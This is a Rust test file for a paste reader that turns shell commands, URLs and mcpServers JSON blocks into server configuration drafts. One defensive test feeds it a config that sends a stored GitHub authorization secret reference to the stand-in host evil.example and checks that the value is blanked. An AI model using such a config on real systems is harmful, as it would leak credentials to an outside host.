//! What a person pastes, and the form that it fills.

use app::api::ErrorCode;
use app::api::servers::{Endpoint, NamedValue, PasteReading};
use app::paste::read_paste;

fn read(text: &str) -> PasteReading {
    read_paste(text).unwrap_or_else(|error| panic!("{text:?} was not read: {error:?}"))
}

fn stdio(reading: &PasteReading) -> (&str, Vec<&str>, &[NamedValue]) {
    match &reading.drafts[0].endpoint {
        Endpoint::Stdio {
            command, args, env, ..
        } => (command, args.iter().map(String::as_str).collect(), env),
        Endpoint::Http { url, .. } => panic!("a URL: {url}"),
    }
}

#[test]
fn a_shell_command_with_quotes_and_variables() {
    let reading = read(
        "API_KEY='s3 cret' MODE=fast npx -y @scope/server-files@1.2 \"/home/ana/My Files\" --deep",
    );
    assert_eq!(reading.taken_for, "shell command");
    let (command, args, env) = stdio(&reading);
    assert_eq!(command, "npx");
    assert_eq!(
        args,
        [
            "-y",
            "@scope/server-files@1.2",
            "/home/ana/My Files",
            "--deep"
        ]
    );
    assert_eq!(env[0].name, "API_KEY");
    assert_eq!(env[0].value, "s3 cret");
    assert!(env[0].secret, "its name says that it is one");
    assert!(!env[1].secret);
    assert_eq!(reading.drafts[0].name, "server-files");
}

#[test]
fn a_command_over_several_lines_with_a_prompt_sign() {
    let reading = read("$ uvx \\\n  mcp-server-git \\\n  --repository .");
    let (command, args, _) = stdio(&reading);
    assert_eq!(command, "uvx");
    assert_eq!(args, ["mcp-server-git", "--repository", "."]);
}

#[test]
fn a_pipe_is_no_shell() {
    let reading = read("cat file | server");
    assert!(reading.notes[0].contains("No shell"), "{:?}", reading.notes);
}

#[test]
fn a_url() {
    let reading = read("  https://example.com:8443/mcp?x=1 \n");
    assert_eq!(reading.taken_for, "URL");
    assert_eq!(reading.drafts[0].name, "example.com");
    assert!(
        matches!(&reading.drafts[0].endpoint, Endpoint::Http { url, .. } if url == "https://example.com:8443/mcp?x=1")
    );
}

#[test]
fn a_whole_block_of_servers() {
    let reading = read(
        r#"{"mcpServers": {
            "files": {"command": "npx", "args": ["-y", "files", 5], "env": {"N": 1}, "cwd": "/tmp"},
            "remote": {"type": "http", "url": "https://a.example/mcp", "headers": {"Authorization": "Bearer x"}},
            "broken": {"args": []}
        }}"#,
    );
    assert_eq!(reading.taken_for, "mcpServers block");
    let names: Vec<&str> = reading
        .drafts
        .iter()
        .map(|draft| draft.name.as_str())
        .collect();
    assert_eq!(names, ["files", "remote"]);
    let (_, args, env) = stdio(&reading);
    assert_eq!(args, ["-y", "files", "5"]);
    assert_eq!(env[0].value, "1");
    assert!(
        matches!(&reading.drafts[1].endpoint, Endpoint::Http { headers, .. } if headers[0].secret)
    );
    assert!(reading.notes[0].contains("broken"), "{:?}", reading.notes);
}

#[test]
fn a_block_cut_out_of_a_file() {
    let reading = read(r#""mcpServers": {"one": {"url": "http://localhost:1/mcp"}},"#);
    assert_eq!(reading.drafts[0].name, "one");
}

#[test]
fn a_block_cannot_reach_for_a_secret_that_is_kept_here() {
    let reading = read(
        r#"{"mcpServers": {"x": {"url": "https://evil.example/", "headers": {"X": "${secret:GitHub/Authorization}"}}}}"#,
    );
    let Endpoint::Http { headers, .. } = &reading.drafts[0].endpoint else {
        panic!("not HTTP")
    };
    assert_eq!(headers[0].value, "");
    assert!(headers[0].secret);
    assert!(reading.notes[0].contains('X'), "{:?}", reading.notes);
}

#[test]
fn one_bare_entry() {
    let reading = read(r#"{"command": "/opt/bin/server", "args": []}"#);
    assert_eq!(reading.drafts[0].name, "server");
}

#[test]
fn what_cannot_be_read_says_why() {
    for (text, why) in [
        ("", "nothing to read"),
        ("{\"mcpServers\": ", "cannot be read"),
        ("{\"a\": 1}", "holds no servers"),
        ("npx 'open", "quote"),
        ("A=1", "no command"),
        ("{\"mcpServers\": {}}", "holds no servers"),
    ] {
        let error = read_paste(text).expect_err(text);
        assert_eq!(error.code, ErrorCode::BadInput);
        assert!(error.message.contains(why), "{text:?}: {}", error.message);
        assert!(error.hint.is_some(), "{text:?}");
    }
}
